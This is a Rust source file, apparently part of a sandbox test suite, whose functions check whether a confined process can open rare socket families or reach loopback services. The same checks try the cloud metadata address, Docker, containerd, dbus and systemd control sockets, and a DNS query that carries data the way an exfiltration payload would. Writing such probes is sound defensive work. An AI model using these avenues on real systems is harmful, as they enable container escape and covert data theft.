//! Ways out through a socket (A20 to A22, A24, A96 to A101).

use std::fs;
use std::net::{SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::os::fd::AsRawFd;
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{SocketAddr as UnixAddress, UnixDatagram, UnixStream};
use std::time::Duration;

use nix::libc::{self, c_int};

use crate::sys::call;
use crate::tries::{Finding, Tries, errno};

const MPTCP: c_int = 262;

fn sockets(families: &[(&str, c_int, c_int, c_int)]) -> Finding {
    let mut tries = Tries::of_network();
    for (name, family, kind, protocol) in families {
        tries.attempt(&format!("socket({name})"), || {
            call!(libc::SYS_socket, *family, *kind, *protocol)
        });
    }
    tries.finding()
}

pub(crate) fn crypto_sockets() -> Finding {
    sockets(&[("AF_ALG", libc::AF_ALG, libc::SOCK_SEQPACKET, 0)])
}

pub(crate) fn vsock() -> Finding {
    sockets(&[
        ("AF_VSOCK", libc::AF_VSOCK, libc::SOCK_STREAM, 0),
        ("AF_VSOCK datagram", libc::AF_VSOCK, libc::SOCK_DGRAM, 0),
    ])
}

pub(crate) fn rare_families() -> Finding {
    const AF_XDP: c_int = 44;
    const AF_SMC: c_int = 43;
    let (raw, datagram) = (libc::SOCK_RAW, libc::SOCK_DGRAM);
    sockets(&[
        ("AF_PACKET", libc::AF_PACKET, raw, 0x300),
        ("AF_XDP", AF_XDP, raw, 0),
        ("AF_KEY", libc::AF_KEY, raw, 2),
        ("AF_NETLINK route", libc::AF_NETLINK, raw, libc::NETLINK_ROUTE),
        ("AF_NETLINK netfilter", libc::AF_NETLINK, raw, libc::NETLINK_NETFILTER),
        ("AF_NETLINK xfrm", libc::AF_NETLINK, raw, libc::NETLINK_XFRM),
        ("AF_NETLINK audit", libc::AF_NETLINK, raw, libc::NETLINK_AUDIT),
        ("AF_TIPC", libc::AF_TIPC, datagram, 0),
        ("AF_RXRPC", libc::AF_RXRPC, datagram, libc::AF_INET),
        ("AF_CAN", libc::AF_CAN, raw, 1),
        ("AF_BLUETOOTH", libc::AF_BLUETOOTH, raw, 1),
        ("AF_SMC", AF_SMC, libc::SOCK_STREAM, 0),
    ])
}

pub(crate) fn out_of_band() -> Finding {
    let mut tries = Tries::new();
    let Ok((near, far)) = UnixStream::pair() else {
        return Finding::Held("socketpair: refused".to_owned());
    };
    let mut byte = [0u8; 1];
    tries.attempt("send(MSG_OOB)", || {
        call!(libc::SYS_sendto, near.as_raw_fd(), b"x", 1, libc::MSG_OOB, 0, 0)
    });
    tries.attempt("recv(MSG_OOB)", || {
        call!(libc::SYS_sendto, near.as_raw_fd(), b"x", 1, libc::MSG_OOB, 0, 0)?;
        call!(libc::SYS_recvfrom, far.as_raw_fd(), &mut byte, 1, libc::MSG_OOB, 0, 0)
    });
    tries.finding()
}

/// A listener on a loopback address, as a local service would have.
fn listener(address: &str) -> nix::Result<(TcpListener, SocketAddr)> {
    let listener = TcpListener::bind(address).map_err(errno)?;
    let address = listener.local_addr().map_err(errno)?;
    Ok((listener, address))
}

pub(crate) fn connections() -> Finding {
    let mut tries = Tries::of_network();
    for local in ["127.0.0.1:0", "[::1]:0"] {
        tries.attempt(&format!("TCP to {local}"), || {
            let (_listener, address) = listener(local)?;
            TcpStream::connect_timeout(&address, Duration::from_secs(1)).map_err(errno)
        });
    }
    // Connecting a datagram socket sends nothing: it succeeds as soon as there is a route.
    for remote in ["169.254.169.254:80", "192.0.2.1:53", "224.0.0.1:9", "[2001:db8::1]:53"] {
        tries.attempt(&format!("UDP to {remote}"), || {
            let any = if remote.starts_with('[') { "[::]:0" } else { "0.0.0.0:0" };
            UdpSocket::bind(any).and_then(|socket| socket.connect(remote)).map_err(errno)
        });
    }
    for (name, kind) in [("ICMP", libc::SOCK_DGRAM), ("raw ICMP", libc::SOCK_RAW)] {
        tries.attempt(name, || call!(libc::SYS_socket, libc::AF_INET, kind, libc::IPPROTO_ICMP));
    }
    tries.finding()
}

pub(crate) fn side_doors() -> Finding {
    let mut tries = Tries::of_network();
    tries.attempt("send(MSG_FASTOPEN)", || {
        let (_listener, address) = listener("127.0.0.1:0")?;
        let socket = call!(libc::SYS_socket, libc::AF_INET, libc::SOCK_STREAM, 0)?;
        let [high, low] = address.port().to_be_bytes();
        let family = libc::AF_INET.to_ne_bytes();
        let to = [family[0], family[1], high, low, 127, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0];
        call!(libc::SYS_sendto, socket, b"x", 1, libc::MSG_FASTOPEN, &to, 16)
    });
    tries.attempt("send(MSG_FASTOPEN) on a pair", || {
        let (near, _far) = UnixStream::pair().map_err(errno)?;
        call!(libc::SYS_sendto, near.as_raw_fd(), b"x", 1, libc::MSG_FASTOPEN, 0, 0)
    });
    tries.attempt("MPTCP", || call!(libc::SYS_socket, libc::AF_INET, libc::SOCK_STREAM, MPTCP));
    tries.attempt("UDP", || UdpSocket::bind("0.0.0.0:0").map_err(errno));
    tries.finding()
}

/// Reaches for sockets of the host: well-known ones, and one on which a test listens.
pub(crate) fn abstract_sockets() -> Finding {
    let mut tries = Tries::of_network();
    for name in ["belljar-attack", "/tmp/.X11-unix/X0", "com.docker.docker"] {
        tries.attempt(&format!("@{name}"), || {
            let address = UnixAddress::from_abstract_name(name).map_err(errno)?;
            UnixStream::connect_addr(&address).map_err(errno)
        });
    }
    tries.finding()
}

pub(crate) fn socket_files() -> Finding {
    let mut tries = Tries::of_network();
    for path in [
        "/run/docker.sock",
        "/run/containerd/containerd.sock",
        "/run/dbus/system_bus_socket",
        "/run/systemd/private",
        "/run/systemd/notify",
        "/dev/log",
        "/tmp/belljar-attack.sock",
    ] {
        tries.attempt(path, || {
            UnixStream::connect(path).map(drop).map_err(errno).or_else(|_| {
                let socket = UnixDatagram::unbound().map_err(errno)?;
                socket.connect(path).map_err(errno)
            })
        });
    }
    tries.finding()
}

pub(crate) fn service() -> Finding {
    let mut tries = Tries::of_network();
    // Bound to every address; that somebody else could come in shows on the loopback device,
    // which is down wherever no other network is.
    tries.attempt("a TCP service", || {
        let (listener, mut address) = listener("0.0.0.0:0")?;
        address.set_ip([127, 0, 0, 1].into());
        let _client =
            TcpStream::connect_timeout(&address, Duration::from_secs(1)).map_err(errno)?;
        listener.accept().map_err(errno)
    });
    tries.finding()
}

/// Asks for a name that carries data, as an exfiltrating payload would.
pub(crate) fn name_lookup() -> Finding {
    let query = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x0cbelljar-data\x07example\0\0\x01\0\x01";
    let configured = fs::read_to_string("/etc/resolv.conf").unwrap_or_default();
    let servers = configured.lines().filter_map(|line| line.strip_prefix("nameserver "));
    let mut tries = Tries::of_network();
    for server in servers.map(str::trim).chain(["127.0.0.53"]) {
        tries.attempt(&format!("DNS query to {server}"), || {
            let any = if server.contains(':') { "[::]:0" } else { "0.0.0.0:0" };
            let socket = UdpSocket::bind(any).map_err(errno)?;
            socket.connect((server, 53)).and_then(|()| socket.send(query)).map_err(errno)
        });
    }
    tries.finding()
}
